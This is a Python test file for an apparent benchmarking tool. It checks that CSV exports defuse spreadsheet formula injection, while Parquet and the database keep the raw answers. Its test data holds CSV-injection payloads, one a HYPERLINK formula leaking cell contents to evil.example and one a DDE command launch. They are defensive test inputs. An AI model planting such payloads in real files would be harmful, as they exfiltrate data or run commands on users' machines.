"""CSV exports are safe to open in a spreadsheet: a cell that would run as a formula is prefixed with '."""

from __future__ import annotations

import csv
from pathlib import Path

import pandas as pd

from counterbench.run import run_prompts
from counterbench.run.results import FORMULA_STARTS, export_results
from counterbench.run.store import open_store
from counterbench.testing.fake_openai import FakeOpenAIServer, FaultConfig, run_in_thread
from tests.run.conftest import FAST_RETRY, cli, make_prompts

HOSTILE = ('=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1",
           "-2+3", "\t=1+1", "\r=1+1", "### 1200000 INR")


def _hostile(system: str, user: str) -> str:
    return HOSTILE[int(user.rsplit("#", 1)[1]) % len(HOSTILE)]


def test_hostile_answers_export_to_csv_as_text_and_stay_raw_elsewhere(tmp_path: Path) -> None:
    store = tmp_path / "s.db"
    with run_in_thread(FakeOpenAIServer(FaultConfig(latency_ms=1, reply=_hostile))) as server:
        env = {"OPENAI_API_KEY": "sk-test-1234567890", "OPENAI_BASE_URL": server.base_url}
        run_prompts(make_prompts(14), ["g=openai:gpt-a"], store=store, env=env, retry=FAST_RETRY)
    out = tmp_path / "answers.csv"
    export_results(store, out)
    with out.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle))
    header, body = rows[0], rows[1:]
    cells = [cell for row in body for cell in row]
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)]  # a spreadsheet runs none of them
    responses = {row[header.index("response")] for row in body}
    assert responses == {"'" + h if h.startswith(FORMULA_STARTS) else h for h in HOSTILE}
    assert {row[header.index("model_spec")] for row in body} == {"openai:gpt-a"}  # label and model string
    parquet = tmp_path / "answers.parquet"
    export_results(store, parquet)
    assert set(pd.read_parquet(parquet)["response"]) == set(HOSTILE)  # Parquet keeps the text as received
    with open_store(store) as opened:
        assert {r for (r,) in opened.query("SELECT response FROM responses")} == set(HOSTILE)


def test_the_cli_export_names_label_and_model_string(tmp_path: Path) -> None:
    table = tmp_path / "p.csv"
    make_prompts(4).to_csv(table, index=False)
    assert cli("run", "--prompts", str(table), "-m", "a=sim:fair", "--store", "s.db", cwd=tmp_path).returncode == 0
    done = cli("export", "--store", "s.db", "--out", "x.csv", cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    frame = pd.read_csv(tmp_path / "x.csv")
    assert list(frame.columns[1:3]) == ["model", "model_spec"] and set(frame["model_spec"]) == {"sim:fair"}
